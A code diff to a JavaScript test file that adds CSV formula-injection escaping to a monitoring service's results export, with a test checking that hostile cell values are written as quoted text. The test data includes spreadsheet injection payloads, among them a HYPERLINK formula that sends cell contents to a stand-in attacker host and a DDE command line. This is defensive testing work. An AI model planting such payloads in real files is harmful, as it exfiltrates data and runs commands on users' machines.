@@ -7,7 +7,7 @@ import { createTestApp } from './helpers/app.js'
 import { createMonitor, deleteMonitor } from '../lib/store/monitors.js'
 import { upsertLocation } from '../lib/store/locations.js'
 import { insertResults } from '../lib/store/results.js'
-import { EXPORT_COLUMNS, EXPORT_SELECT, EXPORT_BATCH_ROWS, JSON_MAX_ROWS } from '../lib/store/results-export.js'
+import { EXPORT_COLUMNS, EXPORT_SELECT, EXPORT_BATCH_ROWS, JSON_MAX_ROWS, csvText } from '../lib/store/results-export.js'
 
 const BASE = Date.parse('2024-03-01T00:00:00Z')
 const at = (s) => new Date(BASE + s * 1000).toISOString()
@@ -68,9 +68,9 @@ async function dbRows (monitorId, where = 'true', values = []) {
 function cell (column, v) {
   if (v === null || v === undefined) return ''
   if (v instanceof Date) return v.toISOString()
-  if (column === 'flags') return v.join(' ')
-  if (typeof v === 'object') return JSON.stringify(v)
-  return String(v)
+  if (column === 'flags') return csvText(v.join(' '))
+  if (typeof v === 'object') return csvText(JSON.stringify(v))
+  return typeof v === 'string' ? csvText(v) : String(v)
 }
 
 const exportUrl = (query) => `/api/v1/results?${new URLSearchParams(query)}`
@@ -93,10 +93,26 @@ test('CSV has a stable header, one row per result and round-trips every value', 
   assert.equal(failed.error, TRICKY_ERROR)
   assert.equal(failed.protocol_ok, 'false')
   assert.equal(failed.ttfb_ms, '')
-  assert.equal(failed.flags, FLAGS.join(' '))
+  // "--enable-quic …" would be a formula to a spreadsheet (see below).
+  assert.equal(failed.flags, `'${FLAGS.join(' ')}`)
   assert.equal(failed.time, at(0))
   const noted = parse(res.body, { columns: true }).find((r) => r.notes !== '')
   assert.deepEqual(JSON.parse(noted.notes), NOTES)
+})
+
+test('a text a spreadsheet would run as a formula is written as text; NDJSON keeps it as it came', async () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']
+  const m = await createMonitor(t.db, { url: 'https://example.net/', interval_s: 60, locations: ['local'] }, { allowPrivateTargets: true })
+  await seed(m.id, 'local', hostile.map((_, i) => at(i * 60)), (job, i) => [
+    result('h2', { status: 'error', error: hostile[i], browser_version: hostile[i], observed_protocol: null, ttfb_ms: null, load_ms: null })
+  ])
+  const rows = parse((await get({ monitor: m.id })).body, { columns: true })
+  assert.deepEqual(rows.map((r) => r.error), hostile.map((h) => `'${h}`))
+  assert.deepEqual(rows.map((r) => r.browser_version), hostile.map((h) => `'${h}`))
+  // Numbers are numbers, also where PostgreSQL gives them as text.
+  assert.deepEqual(['-12.5', '+3', '-1e-3', '-.5', 'net::ERR_FAILED', '- 2'].map(csvText), ['-12.5', '+3', '-1e-3', '-.5', 'net::ERR_FAILED', "'- 2"])
+  const ndjson = (await get({ monitor: m.id, format: 'ndjson' })).body.trim().split('\n').map((l) => JSON.parse(l))
+  assert.deepEqual(ndjson.map((r) => r.error), hostile)
 })
 
 test('HEAD names the download without reading the results', async () => {
